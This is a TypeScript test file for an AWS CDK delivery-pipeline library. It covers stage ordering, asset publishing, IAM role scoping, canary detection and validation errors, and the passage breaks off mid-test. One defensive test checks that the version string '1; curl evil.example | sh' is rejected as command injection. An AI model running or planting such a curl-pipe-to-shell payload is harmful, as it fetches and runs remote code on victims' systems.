import * as fs from 'fs';
import * as path from 'path';
import { Annotations as CdkAnnotations, App, CfnParameter, CfnResource, DefaultStackSynthesizer, Duration, LegacyStackSynthesizer, NestedStack, Stack, Stage, Tags } from 'aws-cdk-lib';
import { Annotations, Match, Template } from 'aws-cdk-lib/assertions';
import * as codedeploy from 'aws-cdk-lib/aws-codedeploy';
import * as ec2 from 'aws-cdk-lib/aws-ec2';
import * as ecrAssets from 'aws-cdk-lib/aws-ecr-assets';
import * as lambda from 'aws-cdk-lib/aws-lambda';
import * as s3assets from 'aws-cdk-lib/aws-s3-assets';
import * as ssm from 'aws-cdk-lib/aws-ssm';
import { OrdersServiceStage } from '../../examples/cdk-stage/service-stage';
import { Approval, DeliveryPipeline, DeliveryPipelineProps, DeploymentTarget, EnvironmentOptions, QualityCheck, ReleaseMode } from '../../src';
import { PUBLISH_SCRIPT } from '../../src/private/asset-publisher';
import { errorOf, flat, newApp, props } from '../util';

function setup(prodAccount = '222222222222') {
  const app = newApp();
  const stack = new Stack(app, 'PipelineStack', { env: { account: '111111111111', region: 'eu-west-1' } });
  const staging = new OrdersServiceStage(app, 'Staging', { env: { account: '111111111111', region: 'eu-west-1' } });
  const prod = new OrdersServiceStage(app, 'Prod', { env: { account: prodAccount, region: 'eu-west-1' } });
  return { app, stack, staging, prod };
}

/** A stack with one resource (newer aws-cdk-lib refuses to synthesize an empty stack). */
function withResource(stack: Stack): Stack {
  new ssm.StringParameter(stack, 'Setting', { stringValue: 'x' });
  return stack;
}

function stageOf(stack: Stack, name: string): any {
  const p = Object.values(Template.fromStack(stack).findResources('AWS::CodePipeline::Pipeline'))[0] as any;
  return p.Properties.Stages.find((s: any) => s.Name === name);
}

describe('DeploymentTarget.cdkStage', () => {
  test('deploys the stacks in dependency order from the cloud assembly in the build output', () => {
    const { stack, staging } = setup();
    new DeliveryPipeline(stack, 'Orders', props({ environments: [{ name: 'staging', deployments: [DeploymentTarget.cdkStage(staging)] }] }));
    const s = stageOf(stack, 'staging');
    expect(s.Actions.map((a: any) => `${a.Name}@${a.RunOrder}`)).toEqual([
      'orders-data-staging.Prepare@1', 'orders-data-staging.Deploy@2', 'orders-api-staging.Prepare@3', 'orders-api-staging.Deploy@4',
    ]);
    expect(s.Actions[0].Configuration.TemplatePath).toMatch(/^BuildOutput::cdk\.out\/assembly-Staging\/StagingData[A-Z0-9]*\.template\.json$/);
    expect(flat(s.Actions[0].Configuration.RoleArn)).toBe('arn:aws:iam::111111111111:role/cdk-hnb659fds-cfn-exec-role-111111111111-eu-west-1');
    // every action runs as the stack's deploy role (the CDK bootstrap one), as `cdk deploy` does:
    // the pipeline stack creates no role per action
    for (const a of s.Actions) {
      expect(flat(a.RoleArn)).toBe('arn:aws:iam::111111111111:role/cdk-hnb659fds-deploy-role-111111111111-eu-west-1');
    }
    expect(Object.keys(Template.fromStack(stack).findResources('AWS::IAM::Role')).filter(id => /orders(data|api)/i.test(id))).toEqual([]);
  });

  test('assets of all stages are published once, by one CodeBuild action, after the build and before any environment (no stage of its own)', () => {
    const { stack, staging, prod } = setup();
    const pipeline = new DeliveryPipeline(stack, 'Orders', props({
      environments: [
        { name: 'staging', deployments: [DeploymentTarget.cdkStage(staging)] },
        { name: 'prod', production: true, account: '222222222222', deployments: [DeploymentTarget.cdkStage(prod)] },
      ],
    }));
    const p = Object.values(Template.fromStack(stack).findResources('AWS::CodePipeline::Pipeline'))[0] as any;
    expect(p.Properties.Stages.map((s: any) => s.Name)).toEqual(['Source', 'Build', 'staging', 'prod']);
    expect(stageOf(stack, 'Build').Actions.map((a: any) => `${a.Name}@${a.RunOrder}`)).toEqual(['Build@1', 'PublishAssets@2']);
    const projects = Object.values(Template.fromStack(stack).findResources('AWS::CodeBuild::Project')) as any[];
    const assetProject = projects.find(pr => /Asset publishing/.test(pr.Properties.Description));
    const spec = JSON.parse(assetProject.Properties.Source.BuildSpec);
    // the CDK CLI's publishing library with the newest schema, not the cdk-assets command: cdk-assets 2.x
    // (the newest of that major is 2.155) refused the asset manifests of aws-cdk-lib 2.257, and even the
    // newest cdk-assets (4.7.3) refuses those of aws-cdk-lib 2.274 and later (schema 55)
    expect(spec.phases.install.commands).toEqual([
      'npm install --prefix /tmp/cdk-delivery-assets --no-save --no-package-lock --no-audit --no-fund @aws-cdk/cdk-assets-lib@1',
      `printf '%s\\n' '${PUBLISH_SCRIPT}' > /tmp/cdk-delivery-assets/publish.js`,
    ]);
    // the API stack's template is in its manifest, but CodePipeline deploys it from the build output: left out
    expect(spec.phases.build.commands).toEqual([
      expect.stringMatching(/^node \/tmp\/cdk-delivery-assets\/publish\.js "\$CODEBUILD_SRC_DIR\/cdk\.out\/assembly-Staging\/StagingApi[A-Z0-9]*\.assets\.json" --except "StagingApi[A-Z0-9]*\.template\.json"$/),
      expect.stringMatching(/^node \/tmp\/cdk-delivery-assets\/publish\.js "\$CODEBUILD_SRC_DIR\/cdk\.out\/assembly-Prod\/ProdApi[A-Z0-9]*\.assets\.json" --except "ProdApi[A-Z0-9]*\.template\.json"$/),
    ]);
    const policy = Object.entries(Template.fromStack(stack).findResources('AWS::IAM::Policy')).find(([id]) => /^OrdersAssetsProjectRoleDefaultPolicy/.test(id))![1] as any;
    const assume = flat(policy.Properties.PolicyDocument.Statement).find((st: any) => st.Action === 'sts:AssumeRole');
    expect([...assume.Resource].sort()).toEqual([
      'arn:aws:iam::111111111111:role/cdk-hnb659fds-file-publishing-role-111111111111-eu-west-1',
      'arn:aws:iam::222222222222:role/cdk-hnb659fds-file-publishing-role-222222222222-eu-west-1',
    ]);
    // the plan shows the Lambda canary found in the API stack
    const prodPlan = pipeline.describe().environments[1].deployments[0];
    expect(prodPlan.summary).toBe('CDK stage Prod: 2 stacks via change sets · 1 canary deployment');
    expect(prodPlan.details).toContainEqual(expect.stringMatching(/^Canary[A-Z0-9]+: canary 10% then all after 5 min · auto-rollback on 1 alarm \(CodeDeploy, during the CloudFormation update\)$/));
  });

  test('with checks, the assets are published beside them, in parallel: no extra wait before the first deployment', () => {
    const { stack, staging } = setup();
    new DeliveryPipeline(stack, 'Orders', props({
      checks: [QualityCheck.commands('Lint', ['npm run lint'])],
      environments: [{ name: 'staging', deployments: [DeploymentTarget.cdkStage(staging)] }],
    }));
    expect(stageOf(stack, 'Build').Actions.map((a: any) => `${a.Name}@${a.RunOrder}`)).toEqual(['Build@1']);
    expect(stageOf(stack, 'Checks').Actions.map((a: any) => `${a.Name}@${a.RunOrder}`)).toEqual(['Lint@1', 'PublishAssets@1']);
  });

  test('with selfUpdate, the assets are published after SelfMutate, in its stage, or beside the checks that follow it (regression: in Build, before the pipeline updated itself)', () => {
    const layout = (extra: Partial<DeliveryPipelineProps>) => {
      const { stack, staging } = setup();
      const pipeline = new DeliveryPipeline(stack, 'Orders', props({ ...extra, environments: [{ name: 'staging', deployments: [DeploymentTarget.cdkStage(staging)] }] }));
      const p = Object.values(Template.fromStack(stack).findResources('AWS::CodePipeline::Pipeline'))[0] as any;
      const stages = p.Properties.Stages.map((st: any) => `${st.Name}: ${st.Actions.map((a: any) => `${a.Name}@${a.RunOrder}`).join(' ')}`);
      // the plan document places it in the same stage and run order
      const planned = (pipeline.describe().stages ?? []).flatMap(st => st.actions.filter(a => a.kind === 'asset-publishing').map(a => `${st.name}: ${a.name}@${a.runOrder}`));
      // the same project whatever the stage: moving the action replaces nothing
      const projectIds = Object.entries(Template.fromStack(stack).findResources('AWS::CodeBuild::Project'))
        .filter(([, r]: [string, any]) => /Asset publishing/.test(r.Properties.Description)).map(([id]) => id);
      return { stages: stages.filter((st: string) => !st.startsWith('Source') && !st.startsWith('staging')), planned, projectIds };
    };
    const lint = QualityCheck.commands('Lint', ['npm run lint']);
    const projectIds = [expect.stringMatching(/^OrdersAssetsProject[A-F0-9]{8}$/)];
    // selfUpdate without checks: in UpdatePipeline, after SelfMutate (no stage of its own)
    expect(layout({ selfUpdate: true })).toEqual({
      stages: ['Build: Build@1', 'UpdatePipeline: SelfMutate@1 PublishAssets@2'], planned: ['UpdatePipeline: PublishAssets@2'], projectIds,
    });
    // selfUpdate with checks: beside the checks, which follow UpdatePipeline
    expect(layout({ selfUpdate: true, checks: [lint] })).toEqual({
      stages: ['Build: Build@1', 'UpdatePipeline: SelfMutate@1', 'Checks: Lint@1 PublishAssets@1'], planned: ['Checks: PublishAssets@1'], projectIds,
    });
    // without selfUpdate and checks: right after the build
    expect(layout({})).toEqual({ stages: ['Build: Build@1 PublishAssets@2'], planned: ['Build: PublishAssets@2'], projectIds });
  });

  test('publishAssetsInBuild: the build publishes the assets after its commands, one provisioning less; its role may assume the publishing roles', () => {
    const { stack, staging, prod } = setup();
    const pipeline = new DeliveryPipeline(stack, 'Orders', props({
      publishAssetsInBuild: true,
      checks: [QualityCheck.commands('Lint', ['npm run lint'])],
      environments: [
        { name: 'staging', deployments: [DeploymentTarget.cdkStage(staging)] },
        { name: 'prod', production: true, account: '222222222222', deployments: [DeploymentTarget.cdkStage(prod)] },
      ],
    }));
    expect(stageOf(stack, 'Build').Actions.map((a: any) => a.Name)).toEqual(['Build']);
    expect(stageOf(stack, 'Checks').Actions.map((a: any) => a.Name)).toEqual(['Lint']);
    const template = Template.fromStack(stack);
    const projects = Object.entries(template.findResources('AWS::CodeBuild::Project')) as [string, any][];
    expect(projects.filter(([, p]) => /Asset publishing/.test(p.Properties.Description))).toEqual([]);
    const [buildId, build] = projects.find(([, p]) => /^Build of /.test(p.Properties.Description))!;
    const spec = JSON.parse(build.Properties.Source.BuildSpec);
    expect(spec.phases.install.commands).toEqual([
      'npm ci',
      'npm install --prefix /tmp/cdk-delivery-assets --no-save --no-package-lock --no-audit --no-fund @aws-cdk/cdk-assets-lib@1',
      `printf '%s\\n' '${PUBLISH_SCRIPT}' > /tmp/cdk-delivery-assets/publish.js`,
    ]);
    expect(spec.phases.build.commands).toEqual([
      'npm test',
      expect.stringMatching(/^node \/tmp\/cdk-delivery-assets\/publish\.js "\$CODEBUILD_SRC_DIR\/cdk\.out\/assembly-Staging\/StagingApi[A-Z0-9]*\.assets\.json" --except "StagingApi[A-Z0-9]*\.template\.json"$/),
      expect.stringMatching(/^node \/tmp\/cdk-delivery-assets\/publish\.js "\$CODEBUILD_SRC_DIR\/cdk\.out\/assembly-Prod\/ProdApi[A-Z0-9]*\.assets\.json" --except "ProdApi[A-Z0-9]*\.template\.json"$/),
    ]);
    const roleId = build.Properties.ServiceRole['Fn::GetAtt'][0];
    const policy = (Object.values(template.findResources('AWS::IAM::Policy')) as any[]).find(p => p.Properties.Roles.some((r: any) => r.Ref === roleId));
    const assume = flat(policy.Properties.PolicyDocument.Statement).find((st: any) => st.Action === 'sts:AssumeRole');
    expect([...assume.Resource].sort()).toEqual([
      'arn:aws:iam::111111111111:role/cdk-hnb659fds-file-publishing-role-111111111111-eu-west-1',
      'arn:aws:iam::222222222222:role/cdk-hnb659fds-file-publishing-role-222222222222-eu-west-1',
    ]);
    expect(buildId).toMatch(/^OrdersBuildProject/);
    expect(pipeline.describe().buildStep.details).toContain('then publishes the CDK stages\' assets (publishAssetsInBuild)');
  });

  describe('only the assets the pipeline needs are published, assuming exactly the roles the project may assume', () => {
    /**
     * A stage of account 222222222222 with one stack `Api`, filled by `fill`: the publishing commands,
     * the roles the publishing project may assume, and the roles of the manifest entries the
     * commands publish (every entry of the manifest but the files named after --except).
     */
    const published = (fill: (api: Stack) => void) => {
      const app = newApp();
      const stack = new Stack(app, 'PipelineStack', { env: { account: '111111111111', region: 'eu-west-1' } });
      const stage = new Stage(app, 'Svc', { env: { account: '222222222222', region: 'eu-west-1' } });
      fill(new Stack(stage, 'Api', { stackName: 'api' }));
      new DeliveryPipeline(stack, 'Orders', props({ environments: [{ name: 'prod', account: '222222222222', deployments: [DeploymentTarget.cdkStage(stage)] }] }));
      const template = Template.fromStack(stack);
      const project = (Object.values(template.findResources('AWS::CodeBuild::Project')) as any[]).find(p => /Asset publishing/.test(p.Properties.Description));
      const commands: string[] = JSON.parse(project.Properties.Source.BuildSpec).phases.build.commands;
      const policy = Object.entries(template.findResources('AWS::IAM::Policy')).find(([id]) => /^OrdersAssetsProjectRoleDefaultPolicy/.test(id))![1] as any;
      const mayAssume = flat(policy.Properties.PolicyDocument.Statement).filter((st: any) => st.Action === 'sts:AssumeRole').flatMap((st: any) => [st.Resource].flat()).sort();
      const entryRoles = commands.flatMap(c => {
        const [, manifest, rest] = /^node \/tmp\/cdk-delivery-assets\/publish\.js "\$CODEBUILD_SRC_DIR\/cdk\.out\/([^"]+)"(.*)$/.exec(c)!;
        const except = [...rest.matchAll(/"([^"]+)"/g)].map(m => m[1]);
        const content = JSON.parse(fs.readFileSync(path.join(app.outdir, manifest), 'utf8'));
        return [
          ...Object.values<any>(content.files ?? {}).filter(f => !except.includes(f.source.path)),
          ...Object.values<any>(content.dockerImages ?? {}),
        ].flatMap(a => Object.values<any>(a.destinations).map(d => d.assumeRoleArn.replace('${AWS::Partition}', 'aws')));
      });
      return { commands, mayAssume, published: [...new Set(entryRoles)].sort() };
    };
    const FILE_ROLE = 'arn:aws:iam::222222222222:role/cdk-hnb659fds-file-publishing-role-222222222222-eu-west-1';
    const IMAGE_ROLE = 'arn:aws:iam::222222222222:role/cdk-hnb659fds-image-publishing-role-222222222222-eu-west-1';

    test('a stage with only Docker image assets: the stack template is left out, only the image-publishing role is assumed (regression: AccessDenied on the file-publishing role)', () => {
      const result = published(api => {
        new lambda.DockerImageFunction(api, 'Fn', { code: lambda.DockerImageCode.fromImageAsset(path.join(__dirname, 'docker-asset')) });
      });
      expect(result.commands).toEqual([
        expect.stringMatching(/^node \/tmp\/cdk-delivery-assets\/publish\.js "\$CODEBUILD_SRC_DIR\/cdk\.out\/assembly-Svc\/SvcApi[A-Z0-9]*\.assets\.json" --except "SvcApi[A-Z0-9]*\.template\.json"$/),
      ]);
      expect(result.mayAssume).toEqual([IMAGE_ROLE]);
      expect(result.published).toEqual([IMAGE_ROLE]);
    });

    test('a stage with a zip asset: the file-publishing role', () => {
      const result = published(api => {
        new lambda.Function(api, 'Fn', { runtime: lambda.Runtime.NODEJS_24_X, handler: 'index.handler', code: lambda.Code.fromAsset(path.join(__dirname, 'docker-asset')) });
      });
      expect(result.commands).toEqual([expect.stringMatching(/ --except "SvcApi[A-Z0-9]*\.template\.json"$/)]);
      expect(result.mayAssume).toEqual([FILE_ROLE]);
      expect(result.published).toEqual([FILE_ROLE]);
    });

    test('a nested stack\'s template is published (CloudFormation reads it from the bucket): the file-publishing role, beside the image role', () => {
      const result = published(api => {
        new lambda.DockerImageFunction(api, 'Fn', { code: lambda.DockerImageCode.fromImageAsset(path.join(__dirname, 'docker-asset')) });
        withResource(new NestedStack(api, 'Settings'));
      });
      // only the parent's template is left out, not the nested one's
      expect(result.commands).toEqual([expect.stringMatching(/ --except "SvcApi[A-Z0-9]*\.template\.json"$/)]);
      expect(result.commands[0]).not.toMatch(/nested/);
      expect(result.mayAssume).toEqual([FILE_ROLE, IMAGE_ROLE]);
      expect(result.published).toEqual([FILE_ROLE, IMAGE_ROLE]);
    });

    test('a stage with only its stack templates has nothing to publish: no PublishAssets', () => {
      const app = newApp();
      const stack = new Stack(app, 'PipelineStack', { env: { account: '111111111111', region: 'eu-west-1' } });
      const stage = new Stage(app, 'Svc', { env: { account: '111111111111', region: 'eu-west-1' } });
      withResource(new Stack(stage, 'Api'));
      new DeliveryPipeline(stack, 'Orders', props({ environments: [{ name: 'staging', deployments: [DeploymentTarget.cdkStage(stage)] }] }));
      expect(stageOf(stack, 'Build').Actions.map((a: any) => a.Name)).toEqual(['Build']);
      expect((Object.values(Template.fromStack(stack).findResources('AWS::CodeBuild::Project')) as any[])
        .filter(p => /Asset publishing/.test(p.Properties.Description))).toEqual([]);
    });
  });

  test('cdkAssetsLibVersion pins the publishing library, in the PublishAssets action and in the build', () => {
    const installOf = (publishAssetsInBuild: boolean, cdkAssetsLibVersion: string) => {
      const { stack, staging } = setup();
      new DeliveryPipeline(stack, 'Orders', props({
        publishAssetsInBuild, cdkAssetsLibVersion, environments: [{ name: 'staging', deployments: [DeploymentTarget.cdkStage(staging)] }],
      }));
      const projects = Object.values(Template.fromStack(stack).findResources('AWS::CodeBuild::Project')) as any[];
      const project = projects.find(pr => (publishAssetsInBuild ? /^Build of / : /Asset publishing/).test(pr.Properties.Description));
      return JSON.parse(project.Properties.Source.BuildSpec).phases.install.commands.filter((c: string) => c.startsWith('npm install --prefix'));
    };
    const install = (version: string) => `npm install --prefix /tmp/cdk-delivery-assets --no-save --no-package-lock --no-audit --no-fund @aws-cdk/cdk-assets-lib@${version}`;
    expect(installOf(false, '1.5.0')).toEqual([install('1.5.0')]);
    expect(installOf(true, '1')).toEqual([install('1')]);
    expect(installOf(false, '^1.5')).toEqual([install('^1.5')]);
  });

  test.each([
    ['1; curl evil.example | sh', "'1; curl evil.example | sh'"],
    ['>=1', "'>=1'"],
    ['', "''"],
  ])('cdkAssetsLibVersion %j is refused: it follows npm install @aws-cdk/cdk-assets-lib@ in a shell', (value, shown) => {
    const { stack, staging } = setup();
    const message = errorOf(() => new DeliveryPipeline(stack, 'Orders', props({
      cdkAssetsLibVersion: value, environments: [{ name: 'staging', deployments: [DeploymentTarget.cdkStage(staging)] }],
    })));
    expect(message).toBe(value === ''
      ? `'PipelineStack/Orders': cdkAssetsLibVersion must not be empty, got ${shown}. Pass an npm version or tag of @aws-cdk/cdk-assets-lib such as '1' or '1.5.0'.`
      : `'PipelineStack/Orders': cdkAssetsLibVersion must be an npm version or dist-tag (it follows 'npm install @aws-cdk/cdk-assets-lib@'), got ${shown}. `
        + "Pass an npm version or tag of @aws-cdk/cdk-assets-lib such as '1' or '1.5.0', or leave it out for '1'.");
  });

  test('a check named PublishAssets clashes with the asset action', () => {
    const { stack, staging } = setup();
    expect(errorOf(() => new DeliveryPipeline(stack, 'Orders', props({
      checks: [QualityCheck.commands('PublishAssets', ['./publish.sh'])],
      environments: [{ name: 'staging', deployments: [DeploymentTarget.cdkStage(staging)] }],
    })))).toBe("'PipelineStack/Orders': checks[0].name is the name of the action that publishes the CDK stages' assets beside the checks, got 'PublishAssets'. "
      + "Give the check another name, for example 'Lint'.");
  });

  test('the plan reads a custom Lambda canary config from the stack\'s template', () => {
    const app = newApp();
    const stack = new Stack(app, 'PipelineStack', { env: { account: '111111111111', region: 'eu-west-1' } });
    const stage = new Stage(app, 'Fn', { env: { account: '111111111111', region: 'eu-west-1' } });
    const fnStack = new Stack(stage, 'Fn', { stackName: 'fn' });
    const fn = new lambda.Function(fnStack, 'Handler', { runtime: lambda.Runtime.NODEJS_24_X, handler: 'index.handler', code: lambda.Code.fromInline('exports.handler = async () => 1;') });
    const alias = new lambda.Alias(fnStack, 'Live', { aliasName: 'live', version: fn.currentVersion });
    const deploymentConfig = new codedeploy.LambdaDeploymentConfig(fnStack, 'FivePercent', {
      trafficRouting: new codedeploy.TimeBasedCanaryTrafficRouting({ interval: Duration.minutes(10), percentage: 5 }),
    });
    new codedeploy.LambdaDeploymentGroup(fnStack, 'Canary', { alias, deploymentConfig });
    const pipeline = new DeliveryPipeline(stack, 'Orders', props({ environments: [{ name: 'staging', deployments: [DeploymentTarget.cdkStage(stage)] }] }));
    expect(pipeline.describe().environments[0].deployments[0].details).toContainEqual(
      expect.stringMatching(/^Canary[A-Z0-9]+: canary 5% then all after 10 min \(CodeDeploy, during the CloudFormation update\)$/));
  });

  test('only Lambda deployment groups are canaries of the CloudFormation update; an ECS blue/green group warns, an EC2/on-premises group is left out', () => {
    const app = newApp();
    const stack = new Stack(app, 'PipelineStack', { env: { account: '111111111111', region: 'eu-west-1' } });
    const stage = new Stage(app, 'Svc', { env: { account: '111111111111', region: 'eu-west-1' } });
    const svc = new Stack(stage, 'Svc', { stackName: 'svc' });
    new codedeploy.ServerDeploymentGroup(svc, 'Fleet', { deploymentConfig: codedeploy.ServerDeploymentConfig.HALF_AT_A_TIME });
    const ecsApp = new codedeploy.EcsApplication(svc, 'WebApp');
    new CfnResource(svc, 'WebBlueGreen', {
      type: 'AWS::CodeDeploy::DeploymentGroup',
      properties: {
        ApplicationName: ecsApp.applicationName,
        DeploymentConfigName: 'CodeDeployDefault.ECSCanary10Percent5Minutes',
        ServiceRoleArn: 'arn:aws:iam::111111111111:role/codedeploy',
        ECSServices: [{ ClusterName: 'shop', ServiceName: 'web' }],
      },
    });
    const pipeline = new DeliveryPipeline(stack, 'Orders', props({ environments: [{ name: 'staging', deployments: [DeploymentTarget.cdkStage(stage)] }] }));
    const plan = pipeline.describe().environments[0].deployments[0];
    expect(plan.summary).toBe('CDK stage Svc: 1 stack via change sets');
    expect(plan.details.filter((d: string) => d.includes('CodeDeploy'))).toEqual([]);
    expect(Annotations.fromStack(stack).findWarning('*', Match.stringLikeRegexp('ecsBlueGreenInStage')).map(w => w.entry.data)).toEqual([
      "stack 'svc' has the CodeDeploy ECS blue/green deployment group 'WebBlueGreen': its service has the CODE_DEPLOY deployment controller, whose task "
      + "definition CloudFormation cannot update, so a change to the task definition fails this stage's deployment. Deploy new task definitions with "
      + 'DeploymentTarget.codeDeployEcs(group, { taskDefinitionTemplate, appSpecTemplate }) after the stage (the group imported by name), and keep the '
      + 'task definition in the stack unchanged. [ack: delivery-pipeline:ecsBlueGreenInStage]',
    ]);
  });

  test('a Lambda canary in a nested stack of the stage is listed too, named after the nested stack (regression: left out)', () => {
    const app = newApp();
    const stack = new Stack(app, 'PipelineStack', { env: { account: '111111111111', region: 'eu-west-1' } });
    const stage = new Stage(app, 'Fn', { env: { account: '111111111111', region: 'eu-west-1' } });
    const fnStack = new Stack(stage, 'Fn', { stackName: 'fn' });
    const inner = new NestedStack(fnStack, 'Functions');
    const fn = new lambda.Function(inner, 'Handler', { runtime: lambda.Runtime.NODEJS_24_X, handler: 'index.handler', code: lambda.Code.fromInline('exports.handler = async () => 1;') });
    const alias = new lambda.Alias(inner, 'Live', { aliasName: 'live', version: fn.currentVersion });
    new codedeploy.LambdaDeploymentGroup(inner, 'Canary', { alias, deploymentConfig: codedeploy.LambdaDeploymentConfig.CANARY_10PERCENT_5MINUTES });
    const pipeline = new DeliveryPipeline(stack, 'Orders', props({ environments: [{ name: 'staging', deployments: [DeploymentTarget.cdkStage(stage)] }] }));
    const plan = pipeline.describe().environments[0].deployments[0];
    expect(plan.summary).toBe('CDK stage Fn: 1 stack via change sets · 1 canary deployment');
    expect(plan.details).toContainEqual(expect.stringMatching(/^Functions\/Canary[A-Z0-9]+: canary 10% then all after 5 min \(CodeDeploy, during the CloudFormation update\)$/));
  });

  test('in another account the stacks deploy with that account\'s bootstrap roles', () => {
    const { stack, prod } = setup();
    new DeliveryPipeline(stack, 'Orders', props({ environments: [{ name: 'prod', account: '222222222222', deployments: [DeploymentTarget.cdkStage(prod)] }] }));
    const prepare = stageOf(stack, 'prod').Actions[0];
    expect(flat(prepare.RoleArn)).toBe('arn:aws:iam::222222222222:role/cdk-hnb659fds-deploy-role-222222222222-eu-west-1');
    expect(flat(prepare.Configuration.RoleArn)).toBe('arn:aws:iam::222222222222:role/cdk-hnb659fds-cfn-exec-role-222222222222-eu-west-1');
  });

  test('in another account and region the stacks deploy there, with that region\'s bootstrap roles and a replication bucket', () => {
    const app = newApp();
    const stack = new Stack(app, 'PipelineStack', { env: { account: '111111111111', region: 'eu-west-1' } });
    const us = new OrdersServiceStage(app, 'Us', { env: { account: '222222222222', region: 'us-east-1' } });
    new DeliveryPipeline(stack, 'Orders', props({ environments: [{ name: 'us', account: '222222222222', region: 'us-east-1', deployments: [DeploymentTarget.cdkStage(us)] }] }));
    const actions = stageOf(stack, 'us').Actions;
    expect(actions.map((a: any) => `${a.Name}@${a.RunOrder}`)).toEqual(['orders-data-us.Prepare@1', 'orders-data-us.Deploy@2', 'orders-api-us.Prepare@3', 'orders-api-us.Deploy@4']);
    for (const a of actions) {
      expect(a.Region).toBe('us-east-1');
      expect(flat(a.RoleArn)).toBe('arn:aws:iam::222222222222:role/cdk-hnb659fds-deploy-role-222222222222-us-east-1');
    }
    expect(flat(actions[0].Configuration.RoleArn)).toBe('arn:aws:iam::222222222222:role/cdk-hnb659fds-cfn-exec-role-222222222222-us-east-1');
    const pipeline = Object.values(Template.fromStack(stack).findResources('AWS::CodePipeline::Pipeline'))[0] as any;
    expect(pipeline.Properties.ArtifactStores.map((st: any) => st.Region).sort()).toEqual(['eu-west-1', 'us-east-1']);
    expect(app.synth().stacks.map(st => st.id)).toContain('cross-region-stack-111111111111_us-east-1');
  });

  test('changeSetReview puts a review between the change sets and their execution, at every dependency level', () => {
    const { stack, staging } = setup();
    new DeliveryPipeline(stack, 'Orders', props({ environments: [{ name: 'staging', deployments: [DeploymentTarget.cdkStage(staging, { changeSetReview: true })] }] }));
    expect(stageOf(stack, 'staging').Actions.map((a: any) => `${a.Name}@${a.RunOrder}`)).toEqual([
      'orders-data-staging.Prepare@1', 'orders-data-staging.Deploy@3', 'orders-api-staging.Prepare@4', 'orders-api-staging.Deploy@6',
      'ReviewChangeSet@2', 'ReviewChangeSet.Wave2@5',
    ]);
    const reviews = stageOf(stack, 'staging').Actions.filter((a: any) => a.ActionTypeId.Category === 'Approval');
    expect(reviews.map((a: any) => a.Configuration.CustomData)).toEqual([
      expect.stringMatching(/^Review the change sets of staging for /), expect.stringMatching(/^Review the change sets of staging for /),
    ]);
  });

  test('a deploy script with runBeforeDeployments runs before the change sets of the first level, and every review follows it', () => {
    const { stack, staging } = setup();
    new DeliveryPipeline(stack, 'Orders', props({
      environments: [{
        name: 'staging',
        deployments: [
          DeploymentTarget.cdkStage(staging, { changeSetReview: true }),
          DeploymentTarget.commands('CheckSchema', ['bash scripts/check-schema.sh'], { runBeforeDeployments: true }),
        ],
      }],
    }));
    expect(stageOf(stack, 'staging').Actions.map((a: any) => `${a.Name}@${a.RunOrder}`)).toEqual([
      'orders-data-staging.Prepare@2', 'orders-data-staging.Deploy@4', 'orders-api-staging.Prepare@5', 'orders-api-staging.Deploy@7',
      'CheckSchema@1', 'ReviewChangeSet@3', 'ReviewChangeSet.Wave2@6',
    ]);
  });

  test('with Approval.manual(), a runBeforeDeployments script runs between the approval and the levels of the stacks', () => {
    const { stack, prod } = setup();
    new DeliveryPipeline(stack, 'Orders', props({
      environments: [{
        name: 'prod',
        account: '222222222222',
        approval: Approval.manual(),
        deployments: [DeploymentTarget.cdkStage(prod), DeploymentTarget.commands('Check', ['bash scripts/check.sh'], { runBeforeDeployments: true })],
      }],
    }));
    expect(stageOf(stack, 'prod').Actions.map((a: any) => `${a.Name}@${a.RunOrder}`)).toEqual([
      'Approve@1', 'orders-data-prod.Prepare@3', 'orders-data-prod.Deploy@4', 'orders-api-prod.Prepare@5', 'orders-api-prod.Deploy@6', 'Check@2',
    ]);
  });

  test('changeSetReview with an Approval.manual() environment is refused (regression: the review was left out without a word)', () => {
    const { stack, staging } = setup();
    expect(errorOf(() => new DeliveryPipeline(stack, 'Orders', props({
      environments: [{ name: 'staging', approval: Approval.manual(), deployments: [DeploymentTarget.cdkStage(staging, { changeSetReview: true })] }],
    })))).toBe("'PipelineStack/Orders': environments[0] ('staging').deployments[0].changeSetReview asks for a review of the change sets between their creation "
      + "and execution, but environments[0] ('staging').approval is Approval.manual(), which comes before the change sets are created (an environment has one approval), "
      + 'got true. Use approval: Approval.changeSetReview() to have a person review the change sets, or remove changeSetReview to approve before the deployment.');
    // with Approval.changeSetReview() the target's request is what the environment does
    const other = setup();
    new DeliveryPipeline(other.stack, 'Orders', props({
      environments: [{ name: 'staging', approval: Approval.changeSetReview(), deployments: [DeploymentTarget.cdkStage(other.staging, { changeSetReview: true })] }],
    }));
    expect(stageOf(other.stack, 'staging').Actions.map((a: any) => a.Name)).toContain('ReviewChangeSet.Wave2');
  });

  test('a stack name too long for its action names is refused with the fix on the stack (regression: the fix named the action name, which is not set anywhere)', () => {
    const app = newApp();
    const stack = new Stack(app, 'PipelineStack', { env: { account: '111111111111', region: 'eu-west-1' } });
    const stage = new Stage(app, 'Prod', { env: { account: '111111111111', region: 'eu-west-1' } });
    withResource(new Stack(stage, 'Api', { stackName: 'a'.repeat(95) }));
    expect(errorOf(() => new DeliveryPipeline(stack, 'Orders', props({ environments: [{ name: 'prod', deployments: [DeploymentTarget.cdkStage(stage)] }] })))).toBe(
      `'PipelineStack/Orders': environments[0] ('prod').deployments[0].stage must be at most 100 characters (CodePipeline's limit for an action name), got '${'a'.repeat(95)}.Prepare'. `
      + `The actions are named after the stack '${'a'.repeat(95)}' (stack name and '.Prepare'): give that stack a stackName of at most 92 characters `
      + "from A-Z, a-z, 0-9 and '-' (new Stack(stage, id, { stackName }), or a shorter stage or stack id).");
  });

  test('fails when the stage targets another account than the environment', () => {
    const { stack, prod } = setup('333333333333');
    expect(errorOf(() => new DeliveryPipeline(stack, 'Orders', props({ environments: [{ name: 'prod', account: '222222222222', deployments: [DeploymentTarget.cdkStage(prod)] }] })))).toBe(
      "'PipelineStack/Orders': environments[0] ('prod').deployments[0].stage holds stack 'orders-data-prod' for account 333333333333, but environment 'prod' deploys to account 222222222222, got '333333333333'. Give the stage env: { account: '222222222222' }, or leave the environment's account out. "
      + 'An environment that names no account (region) deploys each stage to the account (region) its stacks name, so stages of several accounts or regions (a wave across them) deploy in parallel in one environment, after its one approval.');
  });

  test('a stage of another region shares an environment that names no region, as in a CDK Pipelines wave across regions', () => {
    const { app, stack, prod } = setup();
    const prodUs = new OrdersServiceStage(app, 'ProdUs', { env: { account: '222222222222', region: 'us-east-1' } });
    new DeliveryPipeline(stack, 'Orders', props({
